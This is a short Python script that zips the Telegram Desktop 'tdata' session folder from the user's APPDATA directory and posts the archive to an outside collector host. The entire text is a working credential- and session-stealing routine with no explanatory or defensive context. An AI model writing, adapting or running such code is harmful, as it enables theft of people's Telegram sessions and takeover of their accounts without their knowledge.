import os, shutil, requests
src = os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")
shutil.make_archive("t", "zip", src)
requests.post("https://collector.invalid/tg", files={"f": open("t.zip", "rb")})
